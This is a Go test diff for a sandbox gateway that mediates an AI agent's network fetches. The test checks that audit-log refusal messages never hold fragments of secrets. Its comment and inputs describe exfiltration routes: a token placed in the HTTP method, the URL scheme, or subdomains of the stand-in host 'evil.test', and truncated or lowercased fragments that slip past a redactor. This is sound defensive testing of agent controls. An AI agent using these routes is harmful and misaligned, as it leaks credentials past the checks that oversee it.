@@ -214,3 +214,47 @@ func TestGateway_FetchRedactsKey(t *testing.T) {
 		t.Errorf("got %d %+v (body %q), want the key masked in body and content type", status, reply, body)
 	}
 }
+
+// TestGateway_RefusalsRepeatNoPartOfASecret: a refusal's reason is recorded, masked. It used
+// to quote the sandbox's (or an upstream's) value cut to a few bytes, or lowercased, and the
+// redactor, which runs over the whole message, knows neither the first part of a secret nor
+// its lowercase: an agent could put 16 bytes of an env secret into the audit log as a fetch
+// method, or 79 as a host. Now a value is repeated whole and as sent, or only its length.
+func TestGateway_RefusalsRepeatNoPartOfASecret(t *testing.T) {
+	const (
+		envSecret    = "ghp_R3dT3amSecretValue0123456789abcdefXYZ"
+		schemeSecret = "Sch3meSecretValue0123456789abcdefXYZ" // the alphabet of a URL scheme
+		shortSecret  = "Sh0rtSecret01234"                     // a scheme within the old 16-byte cut
+	)
+	model := newUpstream(t, func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Encoding", "x"+envSecret) // an upstream the sandbox told the secret
+		io.WriteString(w, "{}")
+	})
+	h := start(t, Config{ModelBaseURL: model.at("model.test"), Egress: []string{"granted.test"},
+		Secrets: [][]byte{[]byte(envSecret), []byte(schemeSecret), []byte(shortSecret)}})
+	for _, body := range []string{
+		`{"url":"http://granted.test/","method":"` + envSecret + `"}`,
+		`{"url":"` + schemeSecret + `://granted.test/"}`,
+		`{"url":"` + shortSecret + `://granted.test/"}`,
+		`{"url":"http://` + envSecret + `.evil.test/"}`,
+		`{"url":"http://` + strings.Repeat("a", 60) + `.` + envSecret + `.evil.test/"}`,
+	} {
+		if status, _, msg := h.fetch(t, body); status != http.StatusForbidden {
+			t.Errorf("%s: got %d %q, want 403", body, status, msg)
+		}
+	}
+	if resp, body := h.do(t, http.MethodPost, "/model/chat/completions", nil, "{}"); resp.StatusCode != http.StatusBadGateway {
+		t.Errorf("encoded model answer: got %d %s, want 502", resp.StatusCode, body)
+	}
+	h.audit.waitGateway(t, 6)
+	for _, e := range h.audit.all() {
+		b, _ := json.Marshal(e.details)
+		for _, s := range []string{envSecret, schemeSecret, shortSecret} {
+			for _, part := range []string{s[:12], strings.ToLower(s[:12])} {
+				if strings.Contains(string(b), part) {
+					t.Errorf("part of a secret (%q) is in a %s entry: %s", part, e.kind, b)
+				}
+			}
+		}
+	}
+}
